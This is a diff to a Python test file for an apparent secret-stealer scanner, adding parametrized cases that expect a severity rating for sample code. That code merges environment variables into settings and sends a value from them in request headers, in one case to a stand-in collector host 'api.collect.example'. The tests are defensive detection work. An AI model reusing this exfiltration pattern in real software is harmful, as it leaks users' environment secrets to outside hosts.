@@ -53,3 +53,22 @@ LOOP += "    kept = make(os.environ[name])\n    {}\n"
 def test_what_a_table_is_given_is_not_seen_to_leave(line: str, told: bool) -> None:
     worst_of_all = worst("stealer", LOOP.format(line), "sample/__init__.py")
     assert (worst_of_all is Severity.CRITICAL) is told
+
+
+SETTINGS = "import os, requests\nfrom other import merge\nCONF = merge(os.environ, {{'a': 1}})\n"
+SETTINGS += "requests.{}('https://{}/x', headers={{'a': CONF.settings['who']}})\n"
+
+
+@pytest.mark.parametrize(
+    ("verb", "host", "told"),
+    [
+        ("get", "api.github.com", Severity.MEDIUM),
+        ("post", "api.github.com", Severity.CRITICAL),
+        ("get", "api.collect.example", Severity.CRITICAL),
+    ],
+)
+def test_a_keeper_is_asked_with_a_part_of_the_settings(
+    verb: str, host: str, told: Severity
+) -> None:
+    text = SETTINGS.format(verb, host)
+    assert worst("stealer", text, "sample/__init__.py") is told
